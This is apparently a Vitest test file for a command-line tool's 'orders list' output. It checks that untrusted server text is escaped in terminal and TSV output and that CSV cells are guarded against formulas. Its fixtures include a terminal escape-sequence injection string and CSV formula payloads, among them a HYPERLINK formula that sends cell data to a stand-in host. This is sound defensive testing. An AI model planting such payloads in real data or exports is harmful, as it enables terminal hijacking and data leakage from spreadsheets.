/**
 * What `orders list` prints: server text made safe (table, TSV, Error: lines, --verbose), JSON
 * byte-exact, CSV guarded against formulas, tables that fit 80 columns, the footer's page count
 * when the server caps the size, and progress on a terminal only.
 */
import { describe, expect, test } from 'vitest';
import type { Sandbox } from '../../src/sandbox/types.js';
import { displayWidth } from '../../src/text/wrap.js';
import { profileSuite, type RunOptions, runOpcli } from '../helpers.js';
import { page, runAgainst } from './scripted.js';

const HOSTILE = 'Ann\u001b]0;PWNED\u0007\u001b[2J Lee\r\u009b31m';
const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

let sandbox: Sandbox;
let dir: string;
let env: Record<string, string>;

profileSuite((s) => ({ sandbox, dir, env } = s), { sandbox: { orders: 45 } });

/** Runs opcli against a scripted server answering `answers` in order, with this test's environment. */
const against = (answers: Parameters<typeof runAgainst>[0], argv: string[], options: RunOptions = {}) =>
  runAgainst(answers, argv, { ...options, env: { ...env, ...options.env } });

const hostileOrder = {
  sourceOrderId: 'ord_evil',
  sourceOrderNumber: '=HYPERLINK("http://x.example/?"&A1,"Click")',
  currency: 'USD',
  total: -5,
  customerName: HOSTILE,
  customerEmail: '@SUM(1+1)',
  customerPhone: '+1 555 0100',
  platformId: '-cmd',
  originalSourceOrderId: '\tTAB',
  sourceOrderNumberNote: 'line one\nline two',
};

describe('server text is untrusted', () => {
  test('a table shows escape sequences as visible escapes and never writes them raw', async () => {
    const r = await against([{ status: 200, body: page([hostileOrder]) }], ['orders', 'list', '--columns', 'sourceOrderId,customerName'], {
      tty: true,
      env: { NO_COLOR: '1', COLUMNS: '120' },
    });
    expect(r.code).toBe(0);
    expect(r.stdout).not.toMatch(RAW);
    expect(r.stdout).toContain('Ann\\x1b]0;PWNED\\x07\\x1b[2J Lee\\r\\x9b31m');
    expect(r.stderr).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/u);
  });

  test('TSV on a pipe: same escapes, newlines as ⏎, one line per order, every column', async () => {
    const r = await against([{ status: 200, body: page([{ ...hostileOrder, customerName: `${HOSTILE}\nsecond\tline` }]) }], ['orders', 'list']);
    expect(r.code).toBe(0);
    const lines = r.stdout.split('\n').filter(Boolean);
    expect(lines).toHaveLength(1);
    expect(r.stdout).not.toMatch(RAW);
    const cells = (lines[0] as string).split('\t');
    expect(cells).toContain('Ann\\x1b]0;PWNED\\x07\\x1b[2J Lee\\r\\x9b31m⏎second line');
    // Pipes keep every column the record carries.
    expect(cells).toContain('+1 555 0100');
  });

  test('--json and --jsonl stay byte-exact', async () => {
    const j = await against([{ status: 200, body: page([hostileOrder]) }], ['orders', 'list', '--json']);
    expect(JSON.parse(j.stdout)).toEqual([hostileOrder]);
    // JSON escapes ESC, BEL and CR itself; the text is otherwise exactly the server's.
    expect(j.stdout).not.toMatch(/[\u001b\u0007\r]/);
    expect(j.stdout).toContain('\u009b31m');
    const l = await against([{ status: 200, body: page([hostileOrder]) }], ['orders', 'list', '--jsonl']);
    expect(JSON.parse(l.stdout)).toEqual(hostileOrder);
  });

  test.each([
    ['{message}', { message: `boom${HOSTILE}` }],
    ['{error:{message}}', { error: { message: `boom${HOSTILE}` } }],
    ['text', `boom${HOSTILE}`],
  ])('an Error: line from a 500 with %s shows escapes, not raw control characters', async (_shape, body) => {
    // Ten answers: more 500s than the retries use up.
    const r = await against(
      Array.from({ length: 10 }, () => ({ status: 500, body })),
      ['orders', 'list'],
      { sleep: async () => {} },
    );
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/^Error: .*boom/m);
    expect(r.stderr).toContain('\\x1b]0;PWNED');
    expect(r.stderr).not.toMatch(RAW);
    expect(r.stderr.match(/Error:/g)).toHaveLength(1);
  });

  test('--verbose traces show the hostile body escaped', async () => {
    const r = await against([{ status: 200, body: page([hostileOrder]) }], ['--verbose', 'orders', 'list', '--json']);
    expect(r.code).toBe(0);
    expect(r.stderr).toContain('< 200');
    expect(r.stderr).not.toMatch(RAW);
    expect(r.stderr).toContain('\\x9b31m');
  });

  test('--json errors are one JSON object on stderr with message, hint and exitCode', async () => {
    const r = await against([{ status: 403, body: { message: `no${HOSTILE}` } }], ['orders', 'list', '--json']);
    expect(r.code).toBe(4);
    const lines = r.stderr.trim().split('\n');
    const doc = JSON.parse(lines.at(-1) as string);
    expect(doc.error).toMatchObject({ exitCode: 4, status: 403 });
    expect(doc.error.message).toContain(`no${HOSTILE}`.slice(0, 5));
    expect(typeof doc.error.hint === 'string' || doc.error.hint === null).toBe(true);
    expect(r.stderr).not.toContain('Error:');
  });
});

describe('--csv', () => {
  test("a cell starting with = + - @ tab or CR gets a leading '; numbers stay numbers", async () => {
    const r = await against([{ status: 200, body: page([{ ...hostileOrder, sourceCreatedAt: '\rx' }]) }], ['orders', 'list', '--csv']);
    expect(r.code).toBe(0);
    const [header, row] = (await import('csv-parse/sync')).parse(r.stdout) as string[][];
    const at = (name: string) => (row as string[])[(header as string[]).indexOf(name)];
    expect(at('sourceOrderNumber')).toBe(`'${hostileOrder.sourceOrderNumber}`);
    expect(at('customerEmail')).toBe("'@SUM(1+1)");
    expect(at('customerPhone')).toBe("'+1 555 0100");
    expect(at('platformId')).toBe("'-cmd");
    expect(at('originalSourceOrderId')).toBe("'\tTAB");
    // A carriage return is shown escaped (CSV cells are made safe like a terminal's), so no guard is needed.
    expect(at('sourceCreatedAt')).toBe('\\rx');
    expect(at('total')).toBe('-5');
    expect(at('currency')).toBe('USD');
  });

  test('--csv-raw writes cells exactly; --csv-raw alone is a usage error', async () => {
    const r = await against(
      [{ status: 200, body: page([hostileOrder]) }],
      ['orders', 'list', '--csv', '--csv-raw', '--columns', 'sourceOrderNumber,customerEmail'],
    );
    expect(r.code).toBe(0);
    const [, row] = (await import('csv-parse/sync')).parse(r.stdout) as string[][];
    expect(row).toEqual([hostileOrder.sourceOrderNumber, '@SUM(1+1)']);
    const bad = await runOpcli(['orders', 'list', '--csv-raw'], { env });
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain('--csv-raw only applies to --csv');
    expect(sandbox.requests).toHaveLength(0);
  });

  test('the help says so', async () => {
    const r = await runOpcli(['orders', 'list', '--help'], { env });
    expect(r.stdout).toMatch(/formula/);
    expect(r.stdout).toContain('--csv-raw');
  });
});

describe('tables fit the terminal', () => {
  const wide = (n: number) => ({
    sourceOrderId: `ord_${n}`,
    sourceOrderNumber: `#${n}`,
    currency: 'JPY',
    total: 123456.78,
    customerName: n % 2 ? '東京 花子 📦📦📦 with a very long name that goes on and on' : 'Zoë Ünal-Łukasiewicz de la Fontaine-Östergaard',
    customerEmail: 'someone.with.a.long.address@example.com',
    sourceCreatedAt: '2024-05-01T12:00:00.000Z',
  });

  test.each([80, 100, 132])('at %i columns no line is wider than the terminal (wide characters and emoji measured)', async (columns) => {
    const r = await against([{ status: 200, body: page([wide(1), wide(2), wide(3)]) }], ['orders', 'list'], {
      tty: true,
      env: { NO_COLOR: '1', COLUMNS: String(columns) },
    });
    expect(r.code).toBe(0);
    const lines = r.stdout.split('\n').filter(Boolean);
    for (const line of lines) expect(displayWidth(line), line).toBeLessThanOrEqual(columns);
    if (columns < 120) expect(r.stdout).toContain('…');
    expect(lines[1]).toContain('sourceOrderId');
    expect(lines[1]).not.toContain('customerEmail');
  });

  test('the sandbox list with --columns of every field still fits 80 columns', async () => {
    const all = 'sourceOrderId,sourceOrderNumber,currency,total,subtotal,tax,customerName,customerEmail,sourceCreatedAt,platformId';
    const r = await runOpcli(['orders', 'list', '--columns', all], { tty: true, env: { ...env, NO_COLOR: '1', COLUMNS: '80' } });
    expect(r.code).toBe(0);
    for (const line of r.stdout.split('\n').filter(Boolean)) expect(displayWidth(line)).toBeLessThanOrEqual(80);
  });

  test('a stream that knows its columns is believed over COLUMNS', async () => {
    const { PassThrough, Readable } = await import('node:stream');
    const { createDeps } = await import('../../src/cli/deps.js');
    const { runCli } = await import('../../src/cli/program.js');
    const stdout = Object.assign(new PassThrough(), { columns: 60 });
    let out = '';
    stdout.on('data', (c) => {
      out += c;
    });
    const deps = createDeps({
      stdin: Readable.from([]),
      stdout,
      stderr: new PassThrough(),
      stdoutIsTTY: true,
      env: { ...env, NO_COLOR: '1', COLUMNS: '200' },
      cwd: dir,
    });
    expect(await runCli(['orders', 'list', '--size', '5'], deps)).toBe(0);
    for (const line of out.split('\n').filter(Boolean)) expect(displayWidth(line)).toBeLessThanOrEqual(60);
  });

  test('TERM=dumb gets ASCII borders', async () => {
    const r = await runOpcli(['orders', 'list', '--size', '2'], { tty: true, env: { ...env, TERM: 'dumb' } });
    expect(r.code).toBe(0);
    expect(r.stdout.split('\n')[0]).toMatch(/^\+-+\+/);
    expect(r.stdout).toMatch(/^\| ord_000001/m);
    expect(r.stdout).not.toMatch(/[─│┌]/);
  });

  test('--columns with a typo lists the valid names, exit 2, nothing sent', async () => {
    const r = await runOpcli(['orders', 'list', '--columns', 'sourceOrderId,totl'], { env });
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('unknown column "totl"');
    expect(r.stderr).toContain('Valid columns: sourceOrderId, sourceOrderNumber, currency');
    expect(sandbox.requests).toHaveLength(0);
  });

  test('--columns chooses and orders the TSV columns too', async () => {
    const r = await runOpcli(['orders', 'list', '--size', '2', '--columns', 'total,sourceOrderId'], { env });
    expect(r.code).toBe(0);
    expect(r.stdout.split('\n')[0]).toMatch(/^[\d.]+\tord_000001$/);
  });
});

describe('footer and progress', () => {
  test('a server that caps --size: pages counted with what it returned, and the cap said', async () => {
    const nodes = Array.from({ length: 100 }, (_, i) => ({ sourceOrderId: `ord_${i}`, currency: 'USD' }));
    const capped = {
      ...page(nodes, { next: 'c100', total: 350 }),
      pageCursors: {
        around: [
          { cursor: 'a', page: 1, isCurrent: true },
          { cursor: 'b', page: 2, isCurrent: false },
        ],
      },
    };
    const r = await against([{ status: 200, body: capped }], ['orders', 'list', '--size', '250']);
    expect(r.code).toBe(0);
    expect(r.stderr).toContain('100 of 350 orders · page 1 of 4');
    expect(r.stderr).toContain('The server returned at most 100 orders per page (--size 250 asked for more)');
  });

  test('--all on a terminal shows orders, pages, rate and total on stderr; nothing on a pipe', async () => {
    // Time moves with every reading of the clock (the pacing reads it a few times a page): 50 ms a
    // reading keeps this short run under the 10 s after which a pipe gets a plain progress sentence.
    let t = 0;
    const now = () => (t += 50);
    const tty = await runOpcli(['orders', 'list', '--all', '--jsonl', '--size', '10'], { env, now, tty: true });
    expect(tty.code).toBe(0);
    expect(tty.stderr).toMatch(/\r\x1b\[2K\d+ of 45 orders · \d+ pages? · \d+ orders\/s/);
    expect(tty.stderr).toContain('45 of 45 orders in 5 pages.');
    const pipe = await runOpcli(['orders', 'list', '--all', '--jsonl', '--size', '10'], { env, now });
    expect(pipe.stderr).not.toContain('\r');
    expect(pipe.stderr).not.toContain('orders/s');
  });
});
